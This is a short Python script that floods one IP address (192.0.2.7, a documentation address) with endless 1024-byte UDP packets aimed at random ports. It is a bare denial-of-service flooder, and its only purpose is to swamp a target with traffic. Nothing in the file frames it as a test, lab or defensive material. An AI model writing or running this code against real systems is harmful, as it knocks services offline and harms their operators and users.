import random
import socket

line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
while True:
    line.sendto(b"x" * 1024, ("192.0.2.7", random.randint(1, 65535)))
